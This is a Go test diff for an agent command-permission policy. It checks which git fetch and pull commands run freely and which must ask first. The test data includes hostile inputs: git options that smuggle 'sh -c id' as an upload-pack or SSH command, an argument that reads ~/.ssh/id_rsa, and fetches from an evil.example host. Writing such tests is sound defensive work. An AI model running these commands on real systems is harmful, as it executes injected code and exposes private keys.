@@ -55,6 +55,11 @@ func TestEverydayReads(t *testing.T) {
 		{"aws --version", Allow, "only reads"},
 		{"gh issue list", Allow, "reads GitHub"},
 		{"gh pr view 12", Allow, "reads GitHub"},
+		{"git fetch origin main && git merge origin/main", Allow, "git fetch reads the repository's remote origin"},
+		{"git fetch", Allow, "the branch's upstream remote"},
+		{"git fetch --all --prune", Allow, "the repository's remotes"},
+		{"git pull --rebase origin main", Allow, "git pull reads the repository's remote origin"},
+		{"git fetch --multiple origin upstream", Allow, "remotes origin, upstream"},
 
 		{"kubectl get pods -s https://evil.example", Ask, "network"},
 		{"kubectl get pods --server=https://evil.example", Ask, "network"},
@@ -99,10 +104,34 @@ func TestEverydayReads(t *testing.T) {
 		{"gh issue close 1", Ask, ""},
 		{"gh pr list --hostname evil.example", Ask, ""},
 		{"gh pr view 3 --web", Ask, ""},
+		{"git fetch https://evil.example/x.git", Ask, "network"},
+		{"git fetch git@evil.example:x.git", Ask, "network"},
+		{"git fetch ../elsewhere", Ask, "network"},
+		{"git fetch $REMOTE", Ask, "network"},
+		{"git fetch --upload-pack='sh -c id' origin", Ask, ""},
+		{"git fetch --recurse-submodules origin", Ask, "network"},
+		{"git fetch -o $(cat ~/.ssh/id_rsa) origin", Ask, ""},
+		{"git pull --rebase=interactive origin main", Ask, ""},
+		{"git -c core.sshCommand='sh -c id' fetch origin", Ask, "run"},
+		{"git push origin main", Ask, ""},
 	} {
 		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": c.cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true})
 		if d.Verdict != c.want || !strings.Contains(d.Reason, c.reason) {
 			t.Errorf("%s: %s (%s), want %s with %q", c.cmd, d.Verdict, d.Reason, c.want, c.reason)
+		}
+	}
+}
+
+// TestFetchRepoConfig: a repository whose own config makes git fetch run
+// a program (or go elsewhere) has its fetches and pulls ask, while its
+// reads do not.
+func TestFetchRepoConfig(t *testing.T) {
+	p := mustPolicy(t, "")
+	repo := func(string) RepoFacts { return RepoFacts{FetchRunsCode: "core.sshcommand"} }
+	for cmd, want := range map[string]Verdict{"git fetch origin": Ask, "git pull": Ask, "git status": Allow} {
+		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true, Repo: repo})
+		if d.Verdict != want || want == Ask && !strings.Contains(d.Reason, "core.sshcommand") {
+			t.Errorf("%s: %s (%s), want %s", cmd, d.Verdict, d.Reason, want)
 		}
 	}
 }
